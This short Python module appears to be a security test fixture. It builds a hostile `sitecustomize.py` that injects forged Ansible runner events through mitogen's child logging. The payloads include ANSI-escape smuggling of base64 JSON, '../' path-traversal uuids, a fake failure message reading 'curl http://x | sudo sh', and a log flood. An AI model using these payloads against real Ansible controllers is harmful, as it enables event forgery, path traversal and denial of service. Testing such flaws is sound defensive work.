"""What root of a node can have mitogen's child there say, while Ansible works."""

import base64
import json

# What runs as root on a node may put a sitecustomize.py where Python looks for it: mitogen's
# child hands on what it logs.
HOSTILE = """\
import logging, sys, threading, time
def say():
    while "mitogen.core" not in sys.modules or not logging.getLogger().handlers:
        time.sleep(0.01)
    {say}
threading.Thread(target=say, daemon=True).start()
"""


def sitecustomize(say):
    """Return the content of a `sitecustomize.py` that says something as soon as it can."""
    return HOSTILE.format(say=say)


def _forged(event):
    encoded = base64.b64encode(json.dumps(event).encode()).decode()
    return f"\x1b[K{encoded}\x1b[{len(encoded)}D\x1b[K"


def _says(*events):
    texts = "".join(map(_forged, events))
    return f"logging.getLogger().error({texts!r} + chr(10))"


FAILED = {
    "event": "runner_on_failed",
    "uuid": "1",
    "counter": 1,
    "event_data": {"host": "good", "task": "T", "res": {"msg": "curl http://x | sudo sh"}},
}
STATS = {"event": "playbook_on_stats", "uuid": "2", "counter": 2, "event_data": {}}


UPWARDS = [{"event": "x", "uuid": "../" * n + "x", "counter": n} for n in range(2, 9)]

FORGERY = _says(*UPWARDS, FAILED, STATS)
FLOOD = "[logging.getLogger().error('spam ' * 2_000_000) for _ in range(20)]"
